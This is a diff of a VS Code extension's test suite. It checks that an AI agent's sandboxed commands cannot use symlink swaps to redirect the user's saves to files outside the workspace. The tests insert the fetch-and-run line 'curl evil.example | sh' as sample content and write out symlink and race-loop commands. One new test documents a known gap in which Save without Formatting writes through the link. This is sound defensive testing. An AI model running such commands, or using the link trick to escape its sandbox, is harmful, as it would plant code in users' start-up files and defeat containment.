@@ -127,17 +127,21 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     await vscode.commands.executeCommand("workbench.action.closeAllEditors");
   }
 
-  /** The agent's edit in the buffer (as editor_edit makes it), then the user's Ctrl+S in the editor. */
-  async function editAndSave(opened: vscode.TextDocument, line: string): Promise<vscode.TextDocument> {
-    // The document as VS Code has it now (a file replaced on disk can have had its model made anew).
-    const document = await vscode.workspace.openTextDocument(opened.uri);
+  /**
+   * The agent's edit in the buffer (as editor_edit makes it). Made before a command touches the
+   * file: a document with no unsaved change is reloaded by VS Code when its file changes, and an
+   * edit racing that reload is refused (its version is behind).
+   */
+  async function agentEdit(document: vscode.TextDocument, line: string): Promise<void> {
     const edit = new vscode.WorkspaceEdit();
     edit.insert(document.uri, new vscode.Position(document.lineCount, 0), line);
-    const applied = await vscode.workspace.applyEdit(edit);
-    assert.ok(applied, `the edit applied (closed ${document.isClosed}, version ${document.version}, dirty ${document.isDirty}, ${document.lineCount} lines)`);
+    assert.ok(await vscode.workspace.applyEdit(edit), "the edit applied");
+  }
+
+  /** The user's Ctrl+S in the document's editor. */
+  async function userSave(document: vscode.TextDocument): Promise<void> {
     await vscode.window.showTextDocument(document, { preview: false });
     await ui.pressKey("Control+S");
-    return document;
   }
 
   it("keeps a save in the workspace when a command made the open document's file a link to a file outside: the link is moved aside", async () => {
@@ -149,12 +153,14 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     try {
       const document = await vscode.workspace.openTextDocument(file);
       await vscode.window.showTextDocument(document, { preview: false });
+      await agentEdit(document, "curl evil.example | sh\n");
       const before = host.llm.requests.length;
       const command = `ln -sfn '${victim}' .save-guard-link && mv -T .save-guard-link ${name} && echo linked`;
       await runCommand(command, () => fs.lstatSync(file).isSymbolicLink());
       await host.llm.waitForRequests(before + 2);
       await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
-      const edited = await editAndSave(document, "curl evil.example | sh\n");
+      await userSave(document);
+      const edited = document;
       await eventually("the document saved", () => !edited.isDirty || undefined, 20_000);
       assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", "the file outside is untouched");
       assert.equal(fs.lstatSync(file).isFile(), true, "a plain file where the user sees it");
@@ -170,6 +176,36 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     }
   });
 
+  it("Save without Formatting runs no save participant: it goes through the link (a known gap), and the link is then moved aside with a warning to check the file", async () => {
+    const host = suiteHost();
+    const victim = victimFile("unformatted-victim");
+    const name = "save-guard-unformatted.txt";
+    const file = path.join(workspaceRoot(), name);
+    fs.writeFileSync(file, "notes\n");
+    try {
+      const current = await vscode.workspace.openTextDocument(file);
+      await vscode.window.showTextDocument(current, { preview: false });
+      await agentEdit(current, "curl evil.example | sh\n");
+      const before = host.llm.requests.length;
+      await runCommand(`ln -sfn '${victim}' .unformatted-link && mv -T .unformatted-link ${name} && echo linked`, () => fs.lstatSync(file).isSymbolicLink());
+      await host.llm.waitForRequests(before + 2);
+      await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
+      await vscode.window.showTextDocument(current, { preview: false });
+      await vscode.commands.executeCommand("workbench.action.files.saveWithoutFormatting");
+      await eventually("the document saved", () => !current.isDirty || undefined, 20_000);
+      // The gap, as it is: VS Code wrote through the link before anything could look.
+      assert.match(fs.readFileSync(victim, "utf8"), /curl evil\.example/, "written outside: VS Code ran no participant");
+      await eventually("the link moved aside after", () => !fs.lstatSync(file, { throwIfNoEntry: false })?.isSymbolicLink() || undefined);
+      const toast = await eventually("the warning", async () => (await ui.text(".notifications-toasts").catch(() => "")).match(/Save without Formatting[^\n]*/)?.[0]);
+      assert.match(toast, /check/);
+    } finally {
+      await closeReverted(file);
+      await vscode.commands.executeCommand("notifications.clearAll");
+      fs.rmSync(file, { force: true });
+      fs.rmSync(victim, { force: true });
+    }
+  });
+
   it("keeps every save in the workspace while a command flips the document's file between a file and a link outside all the time", async () => {
     const host = suiteHost();
     const victim = victimFile("race-victim");
@@ -180,13 +216,19 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     try {
       const document = await vscode.workspace.openTextDocument(file);
       await vscode.window.showTextDocument(document, { preview: false });
+      await agentEdit(document, "line 0\n");
       const before = host.llm.requests.length;
       const loop = `while :; do ln -sfn '${victim}' .race-l && mv -T .race-l ${name}; cp .race-keep .race-f && mv -T .race-f ${name}; done`;
       const command = `cp ${name} .race-keep && touch .race-flipping && timeout 15 sh -c '${loop.replace(/'/g, "'\\''")}'; rm -f .race-flipping .race-keep .race-l .race-f; echo done`;
       await runCommand(command, () => fs.existsSync(flipping));
       // Saves while the link comes and goes: each lands in the workspace or is refused as changed on disk.
       for (let i = 0; i < 8 && fs.existsSync(flipping); i++) {
-        await editAndSave(document, `line ${i}\n`);
+        // The user types (an edit of theirs cannot race VS Code reloading a saved document) and saves.
+        await vscode.window.showTextDocument(document, { preview: false });
+        await ui.pressKey("Control+End");
+        await ui.typeText(` ${i}`);
+        await ui.pressKey("Escape");
+        await ui.pressKey("Control+S");
         await new Promise((resolve) => setTimeout(resolve, 1_000));
         assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", `save ${i}: the file outside is untouched`);
       }
